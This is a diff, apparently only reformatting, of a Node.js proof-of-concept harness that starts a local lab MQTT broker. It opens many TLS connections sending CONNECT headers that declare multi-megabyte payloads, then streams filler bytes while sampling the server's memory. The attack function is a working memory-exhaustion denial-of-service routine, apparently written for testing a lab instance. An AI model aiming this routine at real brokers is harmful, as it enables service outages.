@@ -27,7 +27,9 @@ function startServer(dataDir) {
   }
   return new Promise((resolve, reject) => {
     const child = fork(script, [dataDir], { stdio: ['ignore', 'inherit', 'inherit', 'ipc'], env: { ...process.env, NODE_OPTIONS: '' } })
-    child.on('message', (m) => { if (m.ready) resolve({ child, pid: child.pid, port: m.brokerPort }) })
+    child.on('message', (m) => {
+      if (m.ready) resolve({ child, pid: child.pid, port: m.brokerPort })
+    })
     child.once('exit', (c) => reject(new Error(`lab server exited ${c}`)))
   })
 }
@@ -42,7 +44,7 @@ function dial(port, ca, onReady) {
 function attack(port, ca) {
   return new Promise((resolve) => {
     const len = MB * 1024 * 1024
-    const header = Buffer.from([0x10, len & 0x7f | 0x80, (len >> 7) & 0x7f | 0x80, (len >> 14) & 0x7f | 0x80, (len >> 21) & 0x7f])
+    const header = Buffer.from([0x10, (len & 0x7f) | 0x80, ((len >> 7) & 0x7f) | 0x80, ((len >> 14) & 0x7f) | 0x80, (len >> 21) & 0x7f])
     const chunk = Buffer.alloc(1024 * 1024, 0x41)
     let sent = 0
     let closed = false
@@ -57,7 +59,10 @@ function attack(port, ca) {
       }
       pump()
     })
-    s.on('close', () => { closed = true; resolve(sent) })
+    s.on('close', () => {
+      closed = true
+      resolve(sent)
+    })
     attack.sockets.push(s)
   })
 }
@@ -72,7 +77,9 @@ async function main() {
     await sleep(1000)
     const before = rssOf(lab.pid)
     let peak = before
-    const sampler = setInterval(() => { peak = Math.max(peak, rssOf(lab.pid)) }, 100)
+    const sampler = setInterval(() => {
+      peak = Math.max(peak, rssOf(lab.pid))
+    }, 100)
     const t0 = performance.now()
     const accepted = await Promise.all(Array.from({ length: CONNS }, () => attack(lab.port, ca)))
     const secs = (performance.now() - t0) / 1000
